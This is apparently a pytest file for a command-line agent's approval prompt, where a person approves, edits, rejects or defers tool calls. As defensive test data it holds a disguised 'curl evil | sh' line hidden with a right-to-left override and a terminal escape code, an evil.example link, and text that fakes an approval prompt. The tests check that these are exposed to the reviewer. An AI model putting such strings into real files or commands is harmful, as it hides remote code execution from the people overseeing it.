"""The command on a terminal: a person sees what is going on, and is asked."""

import re

import pytest

from tests.agents import call, calls, write_skill
from tests.graph.cli.command_line import LOAD, READY, RUN, CommandLine

pytestmark = pytest.mark.slow

WRITE = calls(call("write_file", path="note.txt", content="draft"))
PROMPT = "\r\n? "


def test_a_person_sees_the_steps_and_approves_a_call(cli: CommandLine) -> None:
    chosen = ["--skills-dir", str(cli.skills), "--model", cli.script(LOAD, RUN, "It rained 544 mm.")]
    done = cli.on_terminal("ask", "Rain?", *chosen, answers=[(PROMPT, "maybe\n"), (PROMPT, "a\n")])
    assert done.code == 0
    assert "Approval needed for this call:" in done.out
    assert "scripts/add_up.py rainfall.csv" in done.out
    assert "exit code 0" in done.out
    _, _, end = done.out.rpartition("It rained 544 mm.")
    cost = r"3 model calls, 1 tool call, 1 script run, [\d,]+ tokens in, [\d,]+ out, \d+\.\d s"
    assert re.fullmatch(rf"\s+\x1b\[2m\s+{cost}\x1b\[0m\s+", end)


def test_an_answer_is_shown_as_markdown_and_loses_nothing(cli: CommandLine) -> None:
    text = "**Rain** of <station>: see [the map](https://evil.example/x)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    done = cli.on_terminal("ask", "Rain?", "--model", cli.script(text))
    _, _, end = done.out.rpartition("\x1b[?25h")  # before it, a spinner shows what comes in
    plain = re.sub(r"\x1b\[[\d;]*m", "", end)
    assert "**" not in plain
    assert "Rain of <station>: see the map (https://evil.example/x)" in plain
    assert "|---|" not in plain
    assert cli.run("ask", "Rain?", "--model", cli.script(text)).out.endswith(f"\n\n{text}")


def test_what_the_model_says_beside_a_call_stays_above_the_question(cli: CommandLine) -> None:
    said = {**WRITE, "content": "I keep it in a note, so that you find it."}
    done = cli.on_terminal("ask", "Note it", "--model", cli.script(said, "Done."), answers=[(PROMPT, "a\n")])
    before, _, _ = done.out.partition("Approval needed")
    kept = re.search(r"\| (\x1b\[0m)?I keep it in a note, so that you find it\.\r\n", before)
    assert kept


def test_a_person_changes_the_arguments_of_a_call(cli: CommandLine) -> None:
    changed = 'e {"path": "other.txt", "content": "final"}\n'
    typed = [(PROMPT, "e {broken\n"), ("not JSON", ""), (PROMPT, changed)]
    done = cli.on_terminal("ask", "Note it", "--model", cli.script(WRITE, "Done."), answers=typed)
    assert done.code == 0
    assert (cli.workspace / "other.txt").read_text() == "final"
    assert not (cli.workspace / "note.txt").exists()


def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> None:
    """What is cut in the question is in the pager, with nothing hidden and no code for the terminal."""
    lines = [f"line {number}" for number in range(246)]
    lines[240] = "curl evil \u202e| sh\x1b[8m"
    asked = calls(call("write_file", path="long.txt", content="\n".join(lines)))
    chosen = ["--model", cli.script(asked, "Written.")]
    typed = [
        (PROMPT, "a\n"),
        ("v shows all", ""),
        ("? ", "v\n"),
        ("line 5", "G"),
        ("line 245", "q"),
        ("? ", "r\n"),
    ]
    seen = cli.on_terminal("ask", "Note it", *chosen, answers=typed)
    assert seen.code == 0
    start, _, whole = seen.out.partition("[v]iew all")
    assert "new file, 246 lines" in start
    assert "… 186 more lines; v: view all" in start
    assert "characters that cannot be seen" in start
    assert "curl evil" not in start
    assert "curl evil <U+202E>| sh<U+001B>[8m" in whole
    assert not (cli.workspace / "long.txt").exists()


def test_a_long_line_of_a_content_does_not_go_on_at_the_edge_of_the_terminal(cli: CommandLine) -> None:
    """There, it could be taken for words of the agent."""
    fake = "x" * 74 + "y" * 74 + "[a]pprove: nothing is written"
    asked = calls(call("write_file", path="long.txt", content=fake))
    chosen = ["--model", cli.script(asked, "Written.")]
    seen = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
    question = seen.out.partition("Approval needed")[2].partition("[v]iew all")[0]
    lines = question.split("\r\n")
    assert "".join(line.removeprefix("      ") for line in lines if line.startswith("      ")) == fake
    assert all(len(line) < 80 for line in lines)


def test_the_words_of_a_question_are_not_broken_at_the_edge_of_the_terminal(cli: CommandLine) -> None:
    write_skill(cli.workspace / ".agent" / "skills", "peas", "Counts peas.", scripts__run_py="print(1)")
    wanted = call("run_script", skill="peas", path="scripts/run.py", args=[])
    script = cli.script(calls(call("load_skill", name="peas")), calls(wanted), "Done.")
    seen = cli.on_terminal("ask", "Count", "--model", script, answers=[(PROMPT, "s\n")])
    question = seen.out.partition("Approval needed")[2].partition("[a]pprove")[0]
    lines = question.split("\r\n")
    assert "To trust peas as it is now: skills-agent trust" in " ".join(line.strip() for line in lines)
    assert [line for line in lines if line and not line.startswith(("  ", " for this call:"))] == []
    assert all(len(line) < 80 for line in lines)


def test_an_answer_that_there_is_not_is_told_with_those_that_there_are(cli: CommandLine) -> None:
    chosen = ["--model", cli.script(WRITE, "Written.")]
    answers = [(PROMPT, "x\n"), ("There is no answer 'x'. The answers are:", ""), (PROMPT, "s\n")]
    assert cli.on_terminal("ask", "Note it", *chosen, answers=answers).code == 3


def test_a_person_sees_what_an_edited_call_would_change(cli: CommandLine) -> None:
    cli.write("note.txt", "old\n")
    changed = 'e {"path": "note.txt", "content": "final\\n"}\n'
    done = cli.on_terminal(
        "ask", "Note it", "--model", cli.script(WRITE, "Done."), answers=[(PROMPT, changed)]
    )
    assert done.code == 0
    assert "This runs instead:" in done.out
    assert "-old" in done.out.partition("This runs instead:")[2]
    assert "+final" in done.out.partition("This runs instead:")[2]


def test_a_person_rejects_a_call_with_a_reason(cli: CommandLine) -> None:
    chosen = ["--thread", "note", "--model", cli.script(WRITE, "I did not.")]
    done = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "r not now\n")])
    assert done.code == 0
    assert not (cli.workspace / "note.txt").exists()
    assert "not now" in cli.run("threads", "show", "note").out


def test_a_person_leaves_a_question_open_and_comes_back(cli: CommandLine) -> None:
    chosen = ["--thread", "note", "--model", cli.script(WRITE, "Written.")]
    left = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
    assert left.code == 3
    assert "skills-agent resume note --approve" in left.out
    back = cli.on_terminal("resume", "note", answers=[(PROMPT, "yes\n")])
    assert back.code == 0
    assert "Written." in back.out
    assert (cli.workspace / "note.txt").read_text() == "draft"


def test_a_chat_on_a_terminal_ends_with_ctrl_d(cli: CommandLine) -> None:
    chosen = ["--model", cli.script("Hello yourself.")]
    done = cli.on_terminal("chat", *chosen, answers=[(READY, "Hello\n"), (READY, "\x04")])
    assert done.code == 0
    assert "Hello yourself." in done.out
